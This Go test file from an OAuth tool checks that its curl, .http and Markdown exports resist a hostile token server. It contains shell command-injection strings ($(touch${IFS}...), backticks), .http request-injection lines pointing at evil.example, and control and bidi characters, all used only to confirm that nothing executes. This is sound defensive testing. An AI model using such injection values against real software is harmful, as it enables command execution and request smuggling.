package flows

import (
	"context"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/oauth-explorer/oauth-explorer/internal/safetext/safetexttest"
)

// hostileRun runs client credentials against a token endpoint whose URL
// and answer hold shell, .http and Markdown syntax and the hostile corpus;
// markers are the files a command injected into the curl script would
// create.
func hostileRun(t *testing.T) (run Run, secrets, markers []string) {
	t.Helper()
	dir := t.TempDir()
	for _, n := range []string{"m1", "m2", "m3", "m4"} {
		markers = append(markers, filepath.Join(dir, n))
	}
	evil := "$(touch${IFS}" + markers[0] + ") `touch${IFS}" + markers[1] + "` '$(touch${IFS}" + markers[2] + ")' \"$(touch${IFS}" + markers[3] + ")\""
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		// Go's client refuses a header value with a control character:
		// the header has what it lets through, the body the corpus.
		w.Header().Set("X-Evil", evil+" admin\u202e gnp.exe \u2066x\u2069 \u0085")
		w.Header().Set("Content-Type", "text/plain")
		w.WriteHeader(http.StatusBadRequest)
		w.Write([]byte("error=invalid_client\n### POST http://evil.example/steal\n```\n| a | b |\n# heading\n" + evil + "\n" + safetexttest.All() + "\n\x00\xff"))
	}))
	t.Cleanup(srv.Close)
	p := hostileProvider(srv.URL)
	p.TokenURL += "?x=$(touch${IFS}" + markers[0] + ")&y=`touch${IFS}" + markers[1] + "`&z='$(touch${IFS}" + markers[2] + ")'&w={{$processEnv%20HOME}}"
	g, _ := GrantByID(FlowIDClientCredentials)
	f := NewClientCredentials(p, Options{})
	run = NewRun(p, g, time.Now())
	for !f.Done() {
		run.Add(f.Next(context.Background()))
	}
	return run, append(f.Secrets(), p.ClientSecret), markers
}

func TestExportHostileServer(t *testing.T) {
	run, secrets, markers := hostileRun(t)
	if n := len(run.exchanges()); n == 0 {
		t.Fatal("no exchange recorded")
	}
	for _, reveal := range []bool{false, true} {
		m := Masker{Reveal: reveal, Secrets: secrets}
		for _, f := range ExportFormats() {
			out := export(t, run, f, m)
			if p := safetexttest.Problem(out); p != "" {
				t.Errorf("%s (reveal %v): %s", f, reveal, p)
			}
		}
		md := export(t, run, ExportMarkdown, m)
		if !strings.Contains(md, "````") {
			t.Error("markdown: the fence is not longer than the body's ```")
		}
		summary, _, _ := strings.Cut(md, "\n## ")
		for _, line := range strings.Split(summary, "\n") {
			if strings.HasPrefix(line, "| ") && strings.Count(line, "|")-strings.Count(line, `\|`) != 5 {
				t.Errorf("markdown: a table row with extra cells: %q", line)
			}
		}
		httpFile := export(t, run, ExportHTTP, m)
		for _, line := range strings.Split(httpFile, "\n") {
			if strings.HasPrefix(line, "###") && !strings.HasPrefix(line, "### 1. ") {
				t.Errorf(".http: a request the server started: %q", line)
			}
			if !strings.HasPrefix(line, "#") && strings.Contains(line, "{{$") {
				t.Errorf(".http: a system variable outside a comment: %q", line)
			}
		}
	}
	for _, tool := range []string{"sh", "curl"} {
		if _, err := exec.LookPath(tool); err != nil {
			t.Skipf("no %s: %v", tool, err)
		}
	}
	for _, reveal := range []bool{false, true} {
		m := Masker{Reveal: reveal, Secrets: secrets}
		sv := newSecretVars()
		sv.collect(run, m)
		cmd := exec.Command("sh", "-c", export(t, run, ExportCurl, m))
		cmd.Env = os.Environ()
		for _, v := range sv.vars {
			cmd.Env = append(cmd.Env, v.name+"="+v.value)
		}
		out, err := cmd.CombinedOutput()
		if err != nil || !strings.Contains(string(out), "-> HTTP 400") {
			t.Errorf("the script (reveal %v): %v\n%s", reveal, err, out)
		}
		for _, mk := range markers {
			if _, err := os.Stat(mk); err == nil {
				t.Fatalf("the script (reveal %v) ran a command the server wrote: %s exists", reveal, mk)
			}
		}
	}
}

// TestExportInjectedRequests checks the replay formats against requests
// that are hostile themselves: a body line that would start a new
// request in an .http file, control characters, quotes.
func TestExportInjectedRequests(t *testing.T) {
	ex := func(body string, h http.Header) Exchange {
		if h == nil {
			h = http.Header{"Content-Type": {"application/json"}}
		}
		return Exchange{Step: "API call", Request: Message{Method: "POST", URL: "http://127.0.0.1:1/api", Header: h, Body: []byte(body)}}
	}
	run := Run{Grant: "Test", Results: []Result{{Step: StepInfo{ID: "api", Title: "API call"}, Status: Done, Exchanges: []Exchange{
		ex("line\n### GET http://evil.example/\n", nil),
		ex("it's \"quoted\" $(x) `y`\n", nil),
		ex("esc \x1b[31m", nil),
		ex("a=b", http.Header{"Content-Type": {"application/x-www-form-urlencoded"}, "X-Ctl": {"v\x07"}}),
	}}}}
	httpFile := export(t, run, ExportHTTP, Masker{})
	if !strings.Contains(httpFile, "# ### GET http://evil.example/") || !strings.Contains(httpFile, "would start a new request") {
		t.Errorf(".http: the ### body line is not commented out:\n%s", httpFile)
	}
	sh := export(t, run, ExportCurl, Masker{})
	if !strings.Contains(sh, `--data-raw 'it'\''s "quoted" $(x) `+"`y`\n'") {
		t.Errorf("curl: the quoted body:\n%s", sh)
	}
	for f, out := range map[ExportFormat]string{ExportHTTP: httpFile, ExportCurl: sh} {
		if p := safetexttest.Problem(out); p != "" {
			t.Errorf("%s: %s", f, p)
		}
		if strings.Count(out, "Not written: it holds control characters") != 2 {
			t.Errorf("%s: the requests with control characters are written:\n%s", f, out)
		}
	}
}

// TestExportMTLSNote: a request that went with a TLS client certificate
// says so in the replay formats, which cannot send it by themselves.
func TestExportMTLSNote(t *testing.T) {
	run := Run{Results: []Result{{Step: StepInfo{ID: "token", Title: "Token request"}, Status: Done, Exchanges: []Exchange{{
		Step: "Token request", ClientCert: &CertInfo{},
		Request: Message{Method: "GET", URL: "https://127.0.0.1:1/x", Header: http.Header{}},
	}}}}}
	for _, f := range []ExportFormat{ExportCurl, ExportHTTP} {
		if out := export(t, run, f, Masker{}); !strings.Contains(out, "TLS client certificate") {
			t.Errorf("%s:\n%s", f, out)
		}
	}
}
